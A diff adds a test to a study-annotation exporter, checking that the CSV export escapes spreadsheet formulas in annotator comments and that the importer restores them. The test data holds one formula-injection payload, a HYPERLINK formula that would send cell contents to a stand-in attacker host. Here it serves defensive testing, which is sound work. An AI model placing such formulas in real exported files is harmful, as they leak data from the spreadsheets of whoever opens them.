@@ -90,6 +90,22 @@ def test_export_round_trip_matches_the_database(tmp_path, fmt):
     assert "token" not in table.columns
 
 
+def test_csv_export_quotes_annotator_text_a_spreadsheet_would_run_and_import_reads_it_back(tmp_path):
+    from annotation.importer import read_rows
+    builder = study_for_export(tmp_path)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    last = builder.db.execute("SELECT max(id) FROM ratings").fetchone()[0]
+    builder.db["ratings"].update(last, {"comment": formula})
+    out = export_study(builder.db_path, "s1", "csv", tmp_path / "out.csv")
+    text = out.read_text(encoding="utf-8")
+    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
+    header, rows = read_rows(out)
+    comments = [cells[header.index("comment")] for _, cells in rows]
+    assert formula in comments and not any(c.startswith("'") for c in comments)
+    jsonl = export_study(builder.db_path, "s1", "jsonl", tmp_path / "out.jsonl")
+    assert formula in set(read_back(jsonl, "jsonl")["comment"].dropna())  # only CSV is quoted
+
+
 def test_export_rejects_unknown_format_and_study(tmp_path):
     builder = StudyBuilder(tmp_path / "s.db")
     builder.add_item("a")
